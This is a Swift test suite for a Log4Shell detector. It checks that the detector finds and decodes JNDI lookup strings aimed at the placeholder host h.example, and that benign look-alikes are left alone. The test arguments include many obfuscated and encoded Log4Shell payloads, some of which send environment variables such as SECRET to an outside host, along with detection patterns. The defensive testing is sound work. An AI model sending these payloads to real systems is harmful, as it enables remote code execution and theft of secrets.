import Bytes
import Foundation
import Testing

@testable import Detectors

private let payload = "${jndi:ldap://h.example:1389/a}"

private func each(_ format: (UInt8) -> String) -> String { payload.utf8.map(format).joined() }

private func hex(_ byte: UInt8) -> String { (byte < 16 ? "0" : "") + String(byte, radix: 16) }

/// Encodings that few tools write and all tools read, beside texts that are only like them.
@Suite struct RareEncodingsTests {
  @Test(arguments: [
    each { "\\u{\(hex($0))}" }, each { "\\U000000\(hex($0))" }, each { "\\x{\(hex($0))}" },
    "user=" + each { "\(hex($0)) " },
    each { "\(hex($0))00" }, "p=" + each { "\(hex($0))00" } + "0d0a", each { "\(Character(Unicode.Scalar($0)))&#0;" },
    each { "\(Character(Unicode.Scalar($0)))\\000" },
  ])
  func isUndone(text: String) {
    let found = log4shell(text)
    #expect(found?.host == "h.example", "\(text)")
    #expect(found?.port == 1389)
    #expect(found?.path == "/a")
  }

  /// A field's limit that is marked, an address that a report made harmless, and a spelling that fetches nothing but that
  /// lists of payloads have.
  @Test(arguments: [
    "Bad parameter ${jndi:ldap://h.example:1389/a...", "Bad parameter ${jndi:ldap://h.example:1389/a… (cut)",
    "${jndi:ldap://h[.]example[:]1389/a}",
    "${${upper::-j}${upper::-n}${::-d}${upper::-i}:${upper::-l}${upper::-d}${upper::-a}${upper::-p}://h.example:1389/a}",
    "${j${lower::-zz}ndi:ldap://h.example:1389/a}",
  ])
  func whatOnlyLooksBrokenIsRead(text: String) {
    let found = log4shell(text)
    #expect(found?.host == "h.example", "\(text)")
    #expect(found?.port == 1389)
    #expect(found?.path == "/a")
  }

  @Test(arguments: ["${lower::-j}ndi", "a ${upper::-x} b", "${upper::-jndi}", "${jndi:ldap://.../a"])
  func emptyCasesAloneAreNoPayload(text: String) { #expect(log4shell(text) == nil) }

  @Test(arguments: ["\\n", "\\r\\n", "%0A", "%0D%0A", "\n"])
  func linesOfBase64MayHaveEscapedEnds(end: String) {
    let text = "{\"mail\":\"padding padding padding padding padd\(payload) and so on, as mail goes\"}"
    let digits = Data(text.utf8).base64EncodedString()
    let lines = stride(from: 0, to: digits.count, by: 76).map { digits.dropFirst($0).prefix(76) }
    #expect(lines.count > 1)
    let found = log4shell(lines.joined(separator: end))
    #expect(found?.host == "h.example")
    #expect(found?.port == 1389)
    // Words behind a shorter line are no digits.
    #expect(Data("abc".utf8).base64EncodedString().withView { Base64.decode($0) } == Array("abc".utf8))
    let short = "YWJj\(end)ZGVm".withView { Base64.runs(in: $0, minimum: 4).first }
    #expect(short == 0..<4)
  }

  @Test(arguments: [
    "failregex = ^<HOST> .*\\$\\{jndi:", "pattern: \"\\$\\{jndi:\"", "A payload looks like ${jndi:ldap://...}",
    "${jndi:ldap://…}", "${jndi:ldap://.../a}", "hash 247b6a00ff0011223344556677889900", "24 7b 6a is how it begins",
    "tr '\\000' '\\n'", "\\U0001F600", "\\x{1F600}", "&#0;",
  ])
  func wordsAboutItStayQuiet(text: String) { #expect(log4shell(text) == nil) }

  /// What is cut or escaped but names a place is one.
  @Test func whatNamesAPlaceIsOne() {
    #expect(log4shell("\\$\\{jndi:ldap://h.example/a\\}")?.host == "h.example")
    #expect(log4shell("{\"ua\":\"\\\"${jndi:ldap://h.example/a}\\\"\"}")?.host == "h.example")
    #expect(log4shell("${jndi:") != nil)
    #expect(log4shell("%24%7Bjndi:") != nil)
    #expect(log4shell("${jndi:ldap://..h.example/a}")?.host == "..h.example")
  }

  /// A whole word as a default is there to be sent where there is nothing to steal; a letter only spells.
  @Test func defaultsThatAreWordsSendTheNameAlong() {
    #expect(log4shell("${jndi:ldap://${env:USER:-nobody}.h.example/a}")?.leaks == ["env:USER"])
    #expect(log4shell("${${env:USER:-j}ndi:ldap://h.example/a}")?.leaks == [])
    #expect(log4shell("${jndi:ldap://${env:FOO:-nobody}.h.example/a}")?.leaks == [])
  }

  @Test func whatIsUnknownIsNotDecoded() {
    let found = log4shell("${jndi:ldap://${base64:${env:SECRET}}.h.example/a}")
    #expect(found?.host == "${base64:${env:SECRET}}.h.example")
    #expect(found?.leaks == ["env:SECRET"])
  }

  /// Mail's encodings, and characters that a reader or a normalization takes for ASCII's.
  @Test(arguments: [
    "Subject: =?utf-8?Q?" + each { "=\(hex($0).uppercased())" } + "?=", "x=24=7Bjndi:ldap://h.exam=\r\nple:1389/a=7D",
    "+ACQ-+AHs-jndi:ldap://h.example:1389/a+AH0-", "a+ACQAew-jndi:ldap://h.example:1389/a+AH0-",
    "＄｛ｊndi：ldap：／／h.example:1389／a｝", "q=%EF%BC%84%EF%BD%9Bjndi:ldap://h.example:1389/a%7D",
    "q=%C0%A4%C1%BBjndi:ldap://h.example:1389/a}", "%c0%a4%c1%bbjndi:ldap:%c0%af%e0%80%afh.example:1389/a}",
    "＄｛＄｛::-j}ndi:ldap://h.example:1389/a}",
  ])
  func mailAndLookalikesAreRead(text: String) {
    let found = log4shell(text)
    #expect(found?.scheme == "ldap", "\(text)")
    #expect(found?.host == "h.example")
    #expect(found?.port == 1389)
    #expect(found?.path == "/a")
    #expect(found?.raw.isEmpty == false)
  }

  @Test(arguments: [
    "price ＄｛10｝",
    "=24=7Bprice=7D", "+ACQ-+AHs-price+AH0-", "%EF%BC%84%EF%BD%9Bname%EF%BD%9D", "a=24=7", "+ACQ", "＄｛",
    "%c0%a4%c1%bb", "x+ACQ+", "=24=7Bj=",
  ])
  func otherMailAndLookalikesStayQuiet(text: String) { #expect(log4shell(text) == nil) }

  /// Whatever stands before it, whoever wrote it: the case of the name, what spells it, what encodes it.
  @Test(arguments: ["", "a", "ab", "user: ", "{\"agent\":\""])
  func base64OfEveryBeginning(before: String) {
    let tail = ":ldap://h.example:1389/a}"
    let names = [
      "jndi", "JNDI", "jNdI", "JnDi", "Jndi", "j${::-n}di", "jn${::-d}i", "jnd${lower:I}", "${::-j}ndi",
      "J${upper:n}di",
    ]
    let encodings: [(String) -> String] = [
      { $0 }, { $0.replacing("{", with: "%7B") }, { $0.replacing("{", with: "%7b") },
      { $0.replacing("$", with: "%24") }, { $0.replacing("$", with: "%2524").replacing("{", with: "%257B") },
      { $0.replacing("$", with: "%252524").replacing("{", with: "%25257B") },
      { $0.replacing("$", with: "\\u0024").replacing("{", with: "\\u007b") }, { $0.replacing("{", with: "\\u007b") },
      { $0.replacing("$", with: "\\x24").replacing("{", with: "\\x7b") },
      { $0.replacing("$", with: "\\044").replacing("{", with: "\\173") },
      { $0.replacing("{", with: "&#123;").replacing("$", with: "&#36;") },
      { $0.replacing("{", with: "&#x7b;").replacing("$", with: "&#x24;") },
      { ".\(Data($0.utf8).base64EncodedString())" },
    ]
    for name in names {
      for (number, encode) in encodings.enumerated() {
        let text = before + encode("${\(name)\(tail)")
        let found = log4shell("x=\(Data(text.utf8).base64EncodedString())")
        #expect(found?.host == "h.example" && found?.port == 1389, "\(number) \(text)")
        #expect(found?.raw.isEmpty == false)
      }
    }
  }

  /// What else begins as a payload does.
  @Test(arguments: [
    "${job.name} of the cluster",
    "%24filter=name and more", "${javaHome}/bin/java -jar x.jar", "$%7Bname%7D is free text",
    "{\"a\":\"\\u0024{title} of it\"}", "&dollar;{price} for the whole", "groupIdHelper groupIdEntity",
  ])
  func otherBase64StaysQuiet(text: String) {
    for before in ["", "a", "ab"] {
      #expect(log4shell(Data((before + text).utf8).base64EncodedString()) == nil)
    }
  }

  /// A query and JSON escape two of its digits.
  @Test func base64GoesOnBehindEscapedDigits() {
    let digits = Data("?>?>user=${jndi:ldap://h.example:1389/?>?>?>o~~~?b}".utf8).base64EncodedString()
    #expect(digits.contains("/"))
    for escaped in [
      digits.replacing("/", with: "%2F").replacing("+", with: "%2b"), digits.replacing("/", with: "\\/"),
      digits.replacing("/", with: "\\u002f").replacing("+", with: "\\u002B"),
    ] {
      #expect(log4shell("p=\(escaped)&x=1")?.path == "/?>?>?>o~~~?b", "\(escaped)")
    }
  }

  /// Subscriptions hand logs on compressed.
  @Test func compressedTextInBase64IsRead() {
    // gzip of `{"message":"GET /?x=${jndi:ldap://h.example:1389/a}"}`
    let digits = "H4sIAAAAAAACA6tWyk0tLk5MT1WyUnJ3DVHQt6+wVanOykvJtMpJSSyw0tfP0EutSMwtyEm1MjS2sNRPrFWqBQBcBVwoNQAAAA=="
    #expect(log4shell("{\"data\":\"\(digits)\"}")?.host == "h.example")
    #expect(log4shell(digits)?.port == 1389)
    #expect(log4shell("H4sIAAAAAAAAA" + String(repeating: "A", count: 64)) == nil)
    let many = String(repeating: "\(digits.prefix(60)) ", count: 1 << 12)
    #expect(many.withView { Log4ShellDetector().scan($0, .logField) }.count < 128)
  }

  @Test func quotesThatWereEscapedAgainAreTheDates() {
    for quote in ["'", "''", "\\'", "'\\''"] {
      let found = log4shell("a '${${date:\(quote)j\(quote)}ndi:ldap://h.ex${date:\(quote)ample\(quote)}/a}'")
      #expect(found?.host == "h.example", "\(quote)")
    }
    // A quote is a quote.
    #expect(log4shell("${jndi:ldap://h.example/${date:''}x}")?.path == "/'x")
  }

  @Test func patternsAndDefaultsAreNone() {
    #expect(log4shell("/%24%7Bjndi%3A(ldap|rmi)s?%3A%2F%2F[^\\s\"'<>{}]{3,255}%2FBasic/") == nil)
    #expect(log4shell("url=${JNDI:=ldap://localhost}") == nil)
    #expect(log4shell("url=${JNDI:+ldap://localhost} ${JNDI:?ldap://missing}") == nil)
  }

  @Test func aBraceTooManyWithinTheNameIsStillMeant() {
    for text in ["${${::-jnd}}i:ldap://h.example/a}", "${${lower:jndi}}:ldap://h.example/a}"] {
      #expect(log4shell(text)?.host == "h.example", "\(text)")
    }
    #expect(log4shell("${${::-jnd}}i: a word") == nil)
    #expect(log4shell("${jnd}i:ldap://h.example/a}") == nil)
  }
}
